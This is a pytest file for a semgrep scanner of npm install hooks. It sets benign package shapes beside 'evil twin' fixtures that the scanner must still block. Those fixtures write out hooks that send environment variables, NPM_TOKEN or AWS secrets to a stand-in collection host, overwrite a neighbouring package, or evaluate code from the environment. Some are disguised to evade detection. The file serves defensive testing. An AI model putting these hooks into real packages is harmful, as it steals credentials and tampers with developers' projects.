"""Honest packages that were blocked once, each beside the attack that looks the same but for what makes it one."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.evasions.packages import THEFT, Seen, hooked, packages

pytestmark = pytest.mark.semgrep

COLLECTS = "https://collect.example.invalid/v1"
SENDS = (
    "const https = require('https');\nconst { allowed } = require('./allowed');\n"
    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
)


def reporting(does: str, allowed: str) -> Files:
    """Make a hook that sends, and asks another file about the environment."""
    return hooked("node a.js", {"a.js": SENDS + does, "allowed.js": allowed})


def generating(place: str, write: str = "fs.writeFileSync(path.join(folder, 'index.js'), text)") -> Files:
    """Make a hook that looks into the project and writes into a folder that another file is handed."""
    main = (
        "const fs = require('fs'), path = require('path');\nconst { write } = require('../lib/write');\n"
        "const project = process.env.INIT_CWD || process.cwd();\n"
        f"write({place}, fs.readFileSync(path.join(project, 'schema'), 'utf8'));\n"
    )
    writer = f"const fs = require('fs'), path = require('path');\nexports.write = (folder, text) => {write};\n"
    return hooked("node scripts/a.js", {"scripts/a.js": main, "lib/write.js": writer})


def probing(text: str) -> Files:
    """Make a hook that has another node evaluate a text."""
    start = "const path = require('path'), { spawnSync } = require('child_process');\n"
    own = "const own = path.join(__dirname, '..', 'prebuilds', [process.platform, process.arch].join('-'), 'x.node');\n"
    return hooked("node scripts/a.js", {"scripts/a.js": f"{start}{own}spawnSync(process.execPath, ['-e', {text}]);\n"})


MAKEFILE = "PREFIX ?= ../build\ninstall: tool\n\tmkdir -p $(PREFIX)\n\tinstall -m 755 tool $(PREFIX)/tool\ntool: a.c\n\t$(CC) -o tool a.c\n"


def made(prefix: str, before: str = "") -> Files:
    """Make a package that make builds in a folder of its own, and installs beside it."""
    return hooked(f"{before}make -C native install PREFIX={prefix}", {"native/Makefile": MAKEFILE, "native/a.c": ""})


MARKS = "const MARKS = [{ name: 'ci', found: (env) => env.CI }, { name: 'code', found: (env) => env.TERM_PROGRAM === 'x' }];\n"
LOOP = (
    "exports.allowed = (env = process.env) => { const all = []; for (const one of MARKS) { all.push(one.found(env)); }"
    " return all.join(); };\n"
)


def marked(marks: str = MARKS, before: str = "") -> Files:
    """Make a hook that sends which marks of a list another file finds in the environment."""
    return reporting("send(allowed());", marks + before + LOOP)


def asked(source: str = "env.CI ? 'ci' : 'cli'", also: str = "step: 'install',") -> Files:
    """Make a hook that sends a query with an answer that a function gives about the environment."""
    does = (
        f"const source = (env) => {source};\nconst build = (env = process.env) => new URLSearchParams({{\n"
        f"  from: source(env),\n  {also}\n}}).toString();\nsend(build());"
    )
    return reporting(does, "exports.allowed = () => true;")


PATTERN = (
    "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
    "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
)
"""What semgrep cannot read as it is written."""


@packages(
    counted=reporting(
        "if (allowed(process.env)) send('1');", "exports.allowed = (env) => !env.DO_NOT_TRACK && !env.CI;"
    ),
    generated=generating("path.join(__dirname, '..', 'generated')"),
    marked=marked(),
    asked=asked(),
    probed=probing("`require(${JSON.stringify(own)})`"),
    made=made("../build"),
    pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
)
def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
    assert not seen.blocked
    assert "unmatched" not in seen.blind


@packages(
    whole=reporting("send(allowed(process.env));", "exports.allowed = (env) => JSON.stringify(env);"),
    copied=reporting(
        "send(allowed(process.env));",
        "exports.allowed = (env) => { const all = {}; for (const k of Object.keys(env)) all[k] = env[k]; return all; };",
    ),
    kept=reporting(
        "allowed(process.env); send(JSON.stringify(allowed.all));",
        "exports.allowed = function allowed(env) { if (env.CI) return; exports.allowed.all = env; };",
    ),
    taken_back=reporting("send(allowed(process.env));", "exports.allowed = (env) => env.valueOf();"),
    by_computed_name=reporting(
        "send(allowed(process.env, 'NPM_TO' + 'KEN'));", "exports.allowed = (env, name) => env[name];"
    ),
    secrets=reporting(
        "send(allowed(process.env));", "exports.allowed = (env) => env.NPM_TOKEN + env.AWS_SECRET_ACCESS_KEY;"
    ),
    replaced=reporting(
        "const other = require('./allowed'); other.allowed = (env) => env;\nsend(JSON.stringify(other.allowed(process.env)));",
        "exports.allowed = (env) => !env.CI;",
    ),
    marked_whole=marked(MARKS.replace("env.CI", "JSON.stringify(env)")),
    marked_twice=marked(before="MARKS[0].found = (env) => JSON.stringify(env);\n"),
    marked_by_row=marked(before="const first = MARKS[0]; first.found = (env) => JSON.stringify(env);\n"),
    marked_by_loop=marked(before="for (const each of MARKS) each.found = (env) => JSON.stringify(env);\n"),
    marked_by_this=marked(MARKS.replace("(env) => env.CI", "function (env) { this.kept = env; return env.CI }")),
    marked_by_spread=marked(MARKS.replace("env.CI }", "env.CI, ...{ found: (env) => JSON.stringify(env) } }")),
    marked_secrets=marked(MARKS.replace("env.CI", "env.NPM_TOKEN")),
    by_default=reporting("send(allowed());", "exports.allowed = (env = process.env) => JSON.stringify(env);"),
    asked_whole=asked("JSON.stringify(env)"),
    asked_beside=asked(also="step: 'install', ...env"),
    asked_on_one_line=asked(also="step: source(env) + JSON.stringify(env),"),
    asked_secrets=asked("env.NPM_TOKEN"),
    beside=generating("path.join(__dirname, '..', '..', 'left-pad')"),
    higher=generating(
        "path.join(__dirname, '..', 'generated')",
        "fs.writeFileSync(path.join(folder, '..', '..', 'left-pad', 'index.js'), text)",
    ),
    renamed=generating(
        "path.join(__dirname, '..', 'generated')",
        "fs.writeFileSync(path.resolve(folder, '../../left-pad/index.js'), text)",
    ),
    evaluated=probing("`${JSON.stringify(own)};${process.env.CODE}`"),
    any_path=probing("`require(${JSON.stringify(process.env.OWN)})`"),
    beside_pattern=hooked("node a.mjs", {"a.mjs": PATTERN + THEFT}),
    make_beside=made("../../left-pad"),
    linked=made("../left-pad", before="ln -s ../../../other/native native && "),
)
def test_its_evil_twin_still_is(seen: Seen) -> None:
    assert seen.blocked
